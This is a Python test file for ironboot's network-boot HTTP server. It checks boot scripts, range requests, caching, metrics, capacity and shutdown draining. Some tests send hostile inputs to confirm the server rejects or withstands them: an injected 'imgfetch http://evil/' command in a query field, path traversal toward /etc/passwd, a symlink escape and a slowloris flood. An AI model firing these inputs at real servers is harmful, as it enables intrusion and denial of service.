"""ironboot's HTTP server against curl and raw sockets, inside a network namespace lab."""

import hashlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import tempfile
import time

import pytest

import netlab
from httplab import appliance_config, curl, status_of, write

SUBNET = "10.81.0"
BASE = f"http://{SUBNET}.2:8080"
UUID = "4c4c4544-0033-4410-8047-b4c04f4d4d31"
QUERY = f"uuid={UUID}&mac=52-54-00-12-34-56&arch=x86_64&platform=pcbios&manufacturer=QEMU"


@pytest.fixture(scope="module")
def site():
    workdir = tempfile.mkdtemp(prefix="ironboot-http-")
    os.chmod(workdir, 0o755)
    files = os.path.join(workdir, "files")
    data = bytes((i * 7 + i // 251) % 256 for i in range(3 * 1024 * 1024 + 123))
    write(os.path.join(files, "blob.bin"), data)
    write(os.path.join(workdir, "agent", "vmlinuz"), b"K" * 100000)
    write(os.path.join(workdir, "agent", "initramfs"), b"I" * 50000)
    # tftp.root: a symlink out of the root (refused) and the EFI binary, a symlink into
    # tftp.follow_symlinks_into like Debian's /usr/lib/ipxe/ipxe.efi -> /boot/ipxe.efi (served).
    write(os.path.join(workdir, "bootdir", "ipxe.efi"), b"EFI-BINARY")
    write(os.path.join(workdir, "elsewhere", "secret"), b"SECRET")
    os.makedirs(os.path.join(workdir, "tftp"))
    os.symlink(os.path.join(workdir, "bootdir", "ipxe.efi"), os.path.join(workdir, "tftp", "ipxe.efi"))
    os.symlink(os.path.join(workdir, "elsewhere", "secret"), os.path.join(workdir, "tftp", "secret"))
    write(os.path.join(workdir, "tftp", "undionly.kpxe"), b"BIOS-BINARY")
    # 1 GiB sparse file with a few non-zero islands.
    big = os.path.join(files, "big.img")
    with open(big, "wb") as f:
        f.truncate(1 << 30)
        for off in (0, 12345678, (1 << 29) + 1, (1 << 30) - 4096):
            f.seek(off)
            f.write(os.urandom(4096) if off != (1 << 30) - 4096 else b"end!" * 1024)
    lab = netlab.Lab(subnet=SUBNET)
    try:
        appliance = lab.add_host("appliance", 2)
        client = lab.add_host("client", 10)
        # 500 connections from the one client address below: the per-client cap (64 by
        # default, test_http_limits.py) is lifted for this capacity test.
        cfg = appliance_config(workdir, SUBNET, header_timeout_seconds=3, idle_timeout_seconds=10,
                               max_header_bytes=4096, max_body_bytes=1024, max_connections_per_client=1000)
        cfg["tftp"]["follow_symlinks_into"] = [os.path.join(workdir, "bootdir")]
        daemon = netlab.Ironboot(appliance, cfg, workdir=workdir).start()
        try:
            yield {"workdir": workdir, "files": files, "data": data, "big": big, "client": client,
                   "daemon": daemon, "lab": lab}
        finally:
            daemon.stop()
    finally:
        lab.close()
        shutil.rmtree(workdir, ignore_errors=True)


def get(site, path, *args):
    return curl(site["client"], *args, BASE + path).stdout


def test_boot_script_chains_to_ipxe(site):
    body = get(site, "/boot.ipxe").decode()
    assert body.startswith("#!ipxe\n")
    assert f"chain --replace {BASE}/ipxe?uuid=${{uuid}}&mac=${{net${{ironboot-nic}}/mac:hexhyp}}&arch=${{buildarch}}" in body


def test_ipxe_gives_agent_environment(site):
    body = get(site, "/ipxe?" + QUERY).decode()
    kernel_line = next(line for line in body.splitlines() if line.startswith("kernel "))
    assert kernel_line.startswith(f"kernel {BASE}/assets/agent/vmlinuz initrd=initramfs ")
    assert f" ironboot.endpoint={BASE} " in kernel_line
    assert " ironboot.mac=52:54:00:12:34:56 " in kernel_line or " ironboot.mac=52-54-00-12-34-56 " in kernel_line
    # The daemon always registers the discovery token issuer: a signed v1 token, never a made-up one.
    assert re.search(r" ironboot\.token=b2\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+ ", kernel_line), kernel_line
    assert kernel_line.endswith("console=tty0") or " console=tty0" in kernel_line
    assert f"initrd {BASE}/assets/agent/initramfs" in body
    assert get(site, "/assets/agent/vmlinuz") == b"K" * 100000


def test_ipxe_refuses_hostile_query(site):
    c = site["client"]
    assert status_of(c, BASE + "/ipxe?uuid=x%0Aimgfetch%20http://evil/&mac=52-54-00-12-34-56&arch=x86_64") == "400"
    assert status_of(c, BASE + "/ipxe?uuid=" + UUID + "&mac=52-54-00-12-34-56&arch=sparc") == "400"
    r = curl(c, BASE + "/ipxe?uuid=" + UUID + "&mac=zz&arch=x86_64", check=False)
    assert b"evil" not in r.stdout


@pytest.mark.parametrize("range_header,status,start,end", [
    ("bytes=0-99", "206", 0, 100),                         # first
    ("bytes=1048576-1049599", "206", 1048576, 1049600),    # middle
    ("bytes=3145700-", "206", 3145700, None),              # last
    ("bytes=-500", "206", -500, None),                     # suffix
])
def test_ranges(site, range_header, status, start, end):
    c = site["client"]
    r = curl(c, "-D", "-", "-H", f"Range: {range_header}", BASE + "/assets/files/blob.bin")
    head, _, body = r.stdout.partition(b"\r\n\r\n")
    assert head.split(b" ")[1].decode() == status
    data = site["data"]
    assert body == (data[start:end] if end is not None else data[start:])
    first = start if start >= 0 else len(data) + start
    assert f"Content-Range: bytes {first}-{first + len(body) - 1}/{len(data)}".encode() in head


def test_range_invalid(site):
    c = site["client"]
    r = curl(c, "-D", "-", "-H", "Range: bytes=99999999-", BASE + "/assets/files/blob.bin")
    assert b" 416 " in r.stdout.split(b"\r\n")[0]
    assert f"Content-Range: bytes */{len(site['data'])}".encode() in r.stdout
    # Syntactically invalid or multiple ranges: ignored, the whole file.
    for h in ("bytes=5-1", "bytes=0-1,5-6"):
        assert status_of(c, BASE + "/assets/files/blob.bin", "-H", f"Range: {h}") == "200"


def test_head_and_304(site):
    c = site["client"]
    r = curl(c, "-I", BASE + "/assets/files/blob.bin").stdout.decode()
    assert r.startswith("HTTP/1.1 200")
    assert f"Content-Length: {len(site['data'])}" in r
    etag = re.search(r"ETag: (\S+)", r).group(1)
    assert "Last-Modified: " in r
    assert status_of(c, BASE + "/assets/files/blob.bin", "-H", f"If-None-Match: {etag}") == "304"
    assert status_of(c, BASE + "/assets/files/blob.bin", "-H", 'If-None-Match: "other"') == "200"


def test_keep_alive_reuses_connection(site):
    r = curl(site["client"], "-o", "/dev/null", "-o", "/dev/null", "-o", "/dev/null", "-w", "%{num_connects}\n",
             BASE + "/boot.ipxe", BASE + "/ipxe?" + QUERY, BASE + "/assets/files/blob.bin")
    assert r.stdout.decode().split() == ["1", "0", "0"]


def test_sendfile_body_tail_is_not_held_back(site):
    # Bodies of 64 KB or more are sent corked; the cork must be lifted after the last byte,
    # or the kernel holds the final partial segment for its 200 ms cork ceiling.
    urls = [BASE + "/assets/agent/vmlinuz"] * 5
    r = curl(site["client"], *(["-o", "/dev/null"] * len(urls)), "-w", "%{size_download} %{time_total}\n", *urls)
    rows = [line.split() for line in r.stdout.decode().splitlines()]
    assert [int(size) for size, _ in rows] == [100000] * len(urls)
    times = sorted(float(t) for _, t in rows)
    assert times[len(times) // 2] < 0.15, times


def test_error_statuses(site):
    c = site["client"]
    assert status_of(c, BASE + "/assets/files/missing") == "404"
    assert status_of(c, BASE + "/nothing") == "404"
    assert status_of(c, BASE + "/ipxe?uuid=1") == "400"
    assert status_of(c, BASE + "/boot.ipxe", "-X", "DELETE") == "405"
    assert status_of(c, BASE + "/boot.ipxe", "--data-binary", "x" * 5000) == "413"
    assert status_of(c, BASE + "/boot.ipxe", "-H", "X-Big: " + "a" * 5000) == "431"
    # Traversal, encoded or not, and symlinks out of a root.
    assert status_of(c, BASE + "/assets/files/%2e%2e/agent/vmlinuz") == "404"
    assert status_of(c, BASE + "/assets/files/../../etc/passwd", "--path-as-is") == "404"
    assert status_of(c, BASE + "/assets/tftp/secret") == "404"


def test_tftp_root_symlink_into_follow_dir_is_served(site):
    assert get(site, "/assets/tftp/ipxe.efi") == b"EFI-BINARY"
    assert get(site, "/assets/tftp/undionly.kpxe") == b"BIOS-BINARY"


def test_sparse_gib_file_byte_identical(site):
    h = hashlib.sha256()
    with open(site["big"], "rb") as f:
        while chunk := f.read(1 << 22):
            h.update(chunk)
    c = site["client"]
    pipe = f"curl -sS --noproxy '*' {BASE}/assets/files/big.img | sha256sum"
    r = subprocess.run(c.cmd(["sh", "-c", pipe]), capture_output=True, text=True, timeout=180, check=True)
    assert r.stdout.split()[0] == h.hexdigest()


def _raw_client(site, script, timeout=60):
    """Runs a Python snippet in the client namespace with /usr/bin/python3."""
    r = subprocess.run(site["client"].cmd([netlab.SYSTEM_PYTHON, "-c", script]), capture_output=True, text=True,
                       timeout=timeout)
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout)


def test_500_concurrent_connections(site):
    script = f"""
import json, socket
socks = []
for i in range(500):
    s = socket.create_connection(("{SUBNET}.2", 8080), timeout=20)
    socks.append(s)
# All 500 are open at once; ask /metrics on one more connection.
m = socket.create_connection(("{SUBNET}.2", 8080), timeout=20)
m.sendall(b"GET /metrics HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
metrics = b""
while chunk := m.recv(65536):
    metrics += chunk
for i, s in enumerate(socks):
    s.sendall(b"GET /ipxe?{QUERY} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
ok = 0
for s in socks:
    data = b""
    while chunk := s.recv(65536):
        data += chunk
    ok += data.startswith(b"HTTP/1.1 200 OK") and b"kernel http://" in data
gauge = [l for l in metrics.decode().splitlines() if l.startswith("ironboot_http_connections ")]
print(json.dumps({{"ok": ok, "gauge": gauge}}))
"""
    out = _raw_client(site, script)
    assert out["ok"] == 500
    assert float(out["gauge"][0].split()[1]) >= 501


def test_slowloris_does_not_block_others(site):
    script = f"""
import json, socket, subprocess, time
slow = []
for i in range(100):
    s = socket.create_connection(("{SUBNET}.2", 8080), timeout=20)
    s.sendall(b"GET /boot.ipxe HTTP/1.1\\r\\n")
    slow.append(s)
start = time.monotonic()
times = []
closed_at = {{}}
while time.monotonic() - start < 6:
    for i, s in enumerate(slow):
        if i in closed_at:
            continue
        try:
            s.sendall(b"X")  # one byte at a time, never ending the header
            s.setblocking(False)
            try:
                if s.recv(4096) == b"":
                    closed_at[i] = time.monotonic() - start
            except BlockingIOError:
                pass
            s.setblocking(True)
        except OSError:
            closed_at[i] = time.monotonic() - start
    t = time.monotonic()
    r = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{{http_code}}", "http://{SUBNET}.2:8080/healthz"],
                       capture_output=True, text=True)
    times.append((r.stdout, time.monotonic() - t))
    time.sleep(0.3)
print(json.dumps({{"times": times, "closed": len(closed_at), "closed_max": max(closed_at.values(), default=0)}}))
"""
    out = _raw_client(site, script)
    assert all(code == "200" for code, _ in out["times"]), out["times"]
    assert max(t for _, t in out["times"]) < 1.0
    # header_timeout_seconds=3: every dribbling client is cut off, however busy it looks.
    assert out["closed"] == 100
    assert out["closed_max"] < 5.5


def test_metrics_health_and_request_log(site):
    c = site["client"]
    assert get(site, "/healthz") == b"ok\n"
    ready = get(site, "/readyz").decode()
    assert "http-listener ok" in ready
    m = get(site, "/metrics").decode()
    assert re.search(r'^ironboot_http_requests_total\{code="200"\} \d+', m, re.M)
    assert re.search(r'^ironboot_http_requests_total\{code="404"\} \d+', m, re.M)
    assert "ironboot_http_request_duration_seconds_bucket{le=" in m
    assert "ironboot_http_request_duration_seconds_count " in m
    log = site["daemon"].read_log()
    assert re.search(r"request method=GET path=/boot.ipxe status=200 bytes=\d+ duration_us=\d+ peer=10\.81\.0\.10:\d+",
                     log)
    assert re.search(r"request method=HEAD path=/assets/files/blob.bin status=200 bytes=0 ", log)


def test_sigterm_drains_download_in_flight(site):
    """Runs last: it stops the module's daemon. A download in progress when SIGTERM arrives
    completes; new connections are refused; the daemon then exits by itself."""
    c = site["client"]
    out = os.path.join(site["workdir"], "drained.bin")
    curl_proc = c.popen(["curl", "-sS", "--noproxy", "*", "--limit-rate", "1M", "-o", out,
                         BASE + "/assets/files/blob.bin"], stderr=subprocess.PIPE)
    time.sleep(1.0)
    daemon = site["daemon"]
    daemon.signal(signal.SIGTERM)
    time.sleep(0.3)
    assert status_of(c, BASE + "/healthz") == "000"  # listener closed
    assert curl_proc.wait(30) == 0, curl_proc.stderr.read()
    with open(out, "rb") as f:
        assert f.read() == site["data"]
    assert daemon.proc.wait(15) == 0
